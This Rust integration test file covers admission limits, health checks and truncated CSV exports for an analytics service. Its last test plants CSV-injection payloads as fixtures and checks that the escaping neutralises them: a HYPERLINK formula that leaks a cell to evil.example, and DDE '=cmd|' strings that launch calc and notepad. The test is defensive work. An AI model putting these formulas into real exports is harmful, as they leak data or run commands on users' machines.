//! Bounded work: health checks that a full pool cannot starve, expensive requests admitted per
//! client and in total (shed at once with 429/503 and Retry-After), CSV exports that end by the
//! request deadline or the row limit with a truncation row, and CSV cells that are never formulas.

use std::time::{Duration, Instant};

use litellm_analytics::config::Settings;

use crate::helpers::fixture::{self, NAME, VERSION};
use crate::helpers::{agent_query, Agent, Place, Row, TestApp, TestDb};

/// The app on `db`, every request by SQL (the rollup off), tuned by `tune`.
async fn app_on(db: &TestDb, tune: impl FnOnce(&mut Settings)) -> TestApp {
    TestApp::builder()
        .database(db)
        .settings(|s| {
            s.rollup.enabled = false;
            s.http_workers = Some(2);
        })
        .settings(tune)
        .now(fixture::now())
        .spawn()
        .await
}

/// Starts GET `path` with `key` in the background; its status when it ends.
fn in_background(app: &TestApp, path: &str, key: &str) -> tokio::task::JoinHandle<u16> {
    let request = app
        .http
        .get(format!("{}{}", app.address, path))
        .header("X-API-Key", key);
    tokio::spawn(async move { request.send().await.unwrap().status().as_u16() })
}

async fn get_with_key(app: &TestApp, path: &str, key: &str) -> reqwest::Response {
    app.http
        .get(format!("{}{}", app.address, path))
        .header("X-API-Key", key)
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn readiness_answers_at_once_while_queries_hold_every_pooled_connection() {
    let db = TestDb::create().await;
    db.insert(&fixture::all_rows()).await;
    let app = app_on(&db, |s| s.db_pool_size = 1).await;
    app.get_json("/health/ready", 200).await;
    // Past the health check's cache: the next check queries again.
    tokio::time::sleep(Duration::from_millis(1100)).await;

    let locker = db.lock_table().await;
    // This query takes the pool's only connection and waits on the lock.
    let blocked = in_background(
        &app,
        &format!("/total-tokens?{}", agent_query(NAME, VERSION, 7)),
        "",
    );
    tokio::time::sleep(Duration::from_millis(300)).await;
    for path in ["/health/ready", "/health", "/health/live"] {
        let started = Instant::now();
        app.get_json(path, 200).await;
        let took = started.elapsed();
        assert!(took < Duration::from_millis(500), "{path} took {took:?}");
    }
    locker.batch_execute("ROLLBACK").await.unwrap();
    assert_eq!(blocked.await.unwrap(), 200);
}

#[tokio::test]
async fn expensive_requests_beyond_a_clients_share_are_429_at_once() {
    let db = TestDb::create().await;
    db.insert(&fixture::all_rows()).await;
    let app = app_on(&db, |s| {
        s.guard.api_keys = vec!["key-a".into(), "key-b".into()];
        s.admission.max_per_client = 1;
    })
    .await;
    let locker = db.lock_table().await;
    let blocked = in_background(
        &app,
        &format!("/total-tokens?{}", agent_query(NAME, VERSION, 7)),
        "key-a",
    );
    tokio::time::sleep(Duration::from_millis(300)).await;

    // Another query of the same client: refused at once, not queued.
    let started = Instant::now();
    let path = format!("/total-tokens?{}", agent_query(NAME, VERSION, 15));
    let response = get_with_key(&app, &path, "key-a").await;
    assert_eq!(response.status(), 429);
    assert!(started.elapsed() < Duration::from_millis(500));
    assert_eq!(response.headers()["retry-after"], "2");
    assert_eq!(
        response.headers()["content-type"],
        "application/problem+json"
    );
    let body = response.text().await.unwrap();
    assert!(body.contains("ADMISSION_MAX_PER_CLIENT"), "{body}");
    // Health checks and other clients are not affected (key-b waits on the lock like key-a).
    app.get_json("/health/ready", 200).await;
    let other = in_background(&app, &path, "key-b");
    locker.batch_execute("ROLLBACK").await.unwrap();
    assert_eq!(blocked.await.unwrap(), 200);
    assert_eq!(other.await.unwrap(), 200);
    // The slot was given back.
    assert_eq!(get_with_key(&app, &path, "key-a").await.status(), 200);
}

#[tokio::test]
async fn expensive_requests_beyond_the_total_are_503_at_once() {
    let db = TestDb::create().await;
    db.insert(&fixture::all_rows()).await;
    let app = app_on(&db, |s| {
        s.guard.api_keys = vec!["key-a".into(), "key-b".into()];
        s.admission.max_database = 1;
    })
    .await;
    let locker = db.lock_table().await;
    let blocked = in_background(
        &app,
        &format!("/tokens-usage?{}", agent_query(NAME, VERSION, 7)),
        "key-a",
    );
    tokio::time::sleep(Duration::from_millis(300)).await;

    let started = Instant::now();
    let path = format!("/total-tokens?{}", agent_query(NAME, VERSION, 15));
    let response = get_with_key(&app, &path, "key-b").await;
    assert_eq!(response.status(), 503);
    assert!(started.elapsed() < Duration::from_millis(500));
    assert_eq!(response.headers()["retry-after"], "2");
    let body = response.text().await.unwrap();
    assert!(body.contains("overloaded"), "{body}");
    locker.batch_execute("ROLLBACK").await.unwrap();
    assert_eq!(blocked.await.unwrap(), 200);
    assert_eq!(get_with_key(&app, &path, "key-b").await.status(), 200);
}

/// Rows of `bot` 1.0 with a long reply each, one a minute before `fixture::now()`.
fn long_replies(count: usize, reply_bytes: usize) -> Vec<Row> {
    let reply = "x".repeat(reply_bytes);
    (0..count)
        .map(|i| {
            Row::new(
                &format!("r{i:05}"),
                fixture::now() - chrono::Duration::minutes(i as i64 + 1),
            )
            .agent(
                Place::SpendLogsMetadata,
                Agent::new("bot", "1.0").session("s").user("u"),
            )
            .tokens(1, 1)
            .reply(&reply)
        })
        .collect()
}

/// The records of a CSV body (header first), read leniently (the truncation row is shorter).
fn records(body: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[tokio::test]
async fn a_csv_export_past_the_deadline_ends_with_a_truncation_row() {
    let db = TestDb::create().await;
    // 3000 replies of 8 kB: 24 MB of CSV, more than the sockets buffer while the reader waits.
    db.insert(&long_replies(3000, 8000)).await;
    let app = app_on(&db, |s| s.guard.request_timeout = Duration::from_secs(1)).await;
    let path = "/recentmessages?agent_name=bot&agent_version=1.0&days=1&format=csv";
    let started = Instant::now();
    let mut response = app.get(path).await;
    assert_eq!(response.status(), 200);
    // A slow reader: the export must not go on past its deadline regardless.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let mut body = Vec::new();
    while let Some(chunk) = response.chunk().await.unwrap() {
        body.extend_from_slice(&chunk);
    }
    let body = String::from_utf8(body).unwrap();
    let rows = records(&body);
    let last = rows.last().unwrap();
    assert_eq!(last[0], "#truncated", "{:?}", &last[..1]);
    assert!(last[1].contains("REQUEST_TIMEOUT_SECONDS=1"), "{last:?}");
    assert!(
        !last[2].is_empty(),
        "the row names the cursor to go on with"
    );
    // Header, some replies, the truncation row: not all 3000.
    let replies = rows.len() - 2;
    assert!((1000..3000).contains(&replies), "{replies} rows");
    println!(
        "{replies} rows in {:?}, then: {}",
        started.elapsed(),
        last[1]
    );
}

#[tokio::test]
async fn a_csv_export_stops_at_the_row_limit_and_names_the_cursor_to_go_on() {
    let db = TestDb::create().await;
    db.insert(&long_replies(5, 10)).await;
    let app = app_on(&db, |s| s.admission.csv_max_rows = 2).await;
    let path = "/detailed-usage?agent_name=bot&agent_version=1.0&days=1&format=csv";
    let body = app.get(path).await.text().await.unwrap();
    let rows = records(&body);
    // Header, the 2 newest requests (r00000 one minute ago, r00001 two), the truncation row.
    assert_eq!(rows.len(), 4, "{body}");
    let id = rows[0].iter().position(|c| c == "request_id").unwrap();
    assert_eq!([&rows[1][id], &rows[2][id]], ["r00000", "r00001"]);
    assert_eq!(rows[3][0], "#truncated");
    assert!(rows[3][1].contains("CSV_EXPORT_MAX_ROWS"), "{:?}", rows[3]);
    // The cursor goes on where the export stopped.
    let next = format!("{path}&cursor={}", rows[3][2]);
    let rows = records(&app.get(&next).await.text().await.unwrap());
    assert_eq!([&rows[1][id], &rows[2][id]], ["r00002", "r00003"]);
    let body = app
        .get(&format!("{path}&limit=5"))
        .await
        .text()
        .await
        .unwrap();
    // With an explicit page size the caller gets that page, no truncation row.
    assert!(!body.contains("#truncated"), "{body}");
    // The session list (ranked in memory or by SQL) is bounded the same way.
    let sessions: Vec<Row> = (0..3)
        .map(|i| {
            Row::new(
                &format!("s{i}"),
                fixture::now() - chrono::Duration::hours(1),
            )
            .agent(
                Place::SpendLogsMetadata,
                Agent::new("bot", "2.0").session(&format!("sess-{i}")),
            )
            .tokens(1, 1)
        })
        .collect();
    db.insert(&sessions).await;
    let body = app
        .get("/sessions?agent_name=bot&agent_version=2.0&days=1&format=csv")
        .await
        .text()
        .await
        .unwrap();
    let rows = records(&body);
    assert_eq!(rows.len(), 4, "{body}");
    assert_eq!(rows[3][0], "#truncated");
}

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
const CALC: &str = "=cmd|' /C calc'!A0";

#[tokio::test]
async fn csv_cells_from_callers_are_never_formulas_and_numbers_stay_numbers() {
    let db = TestDb::create().await;
    let at = fixture::now() - chrono::Duration::minutes(5);
    let agent = |session: &str, user: &str| {
        let mut agent = Agent::new(HYPERLINK, "1.0").session(session).user(user);
        agent.app = Some(CALC.to_string());
        agent
    };
    db.insert(&[
        Row::new("=r1", at)
            .agent(Place::SpendLogsMetadata, agent(CALC, "@SUM(A1:A9)"))
            .model("+cmd|' /C notepad'!A0")
            .tokens(10, 5)
            // A refund written back as a negative spend: a number, never quoted.
            .spend(-0.25)
            .reply(HYPERLINK),
        Row::new("r2", at - chrono::Duration::minutes(1))
            .agent(Place::SpendLogsMetadata, agent("-2+3", "\tx"))
            .tokens(1, 1)
            .reply("\r=1+1"),
    ])
    .await;
    let app = app_on(&db, |_| {}).await;
    let query = agent_query(HYPERLINK, "1.0", 1);
    let mut seen = Vec::new();
    for path in [
        format!("/detailed-usage?{query}&format=csv"),
        format!("/recentmessages?{query}&format=csv"),
        format!("/sessions?{query}&format=csv"),
        format!("/users?{query}&format=csv"),
        format!("/sessions/{}?{query}&format=csv", urlencode(CALC)),
    ] {
        let response = app.get(&path).await;
        assert_eq!(response.status(), 200, "{path}");
        let body = response.text().await.unwrap();
        for record in records(&body) {
            for cell in record {
                let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(
                    !risky || cell.parse::<f64>().is_ok(),
                    "{path}: formula cell {cell:?}"
                );
                seen.push(cell);
            }
        }
    }
    for expected in [
        format!("'{CALC}"),
        format!("'{HYPERLINK}"),
        "'@SUM(A1:A9)".to_string(),
        "'+cmd|' /C notepad'!A0".to_string(),
        "'-2+3".to_string(),
        "'\tx".to_string(),
        "'\r=1+1".to_string(),
        "'=r1".to_string(),
        "-0.25".to_string(),
    ] {
        assert!(seen.contains(&expected), "no cell {expected:?} in {seen:?}");
    }
}

fn urlencode(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' => (b as char).to_string(),
            other => format!("%{other:02X}"),
        })
        .collect()
}
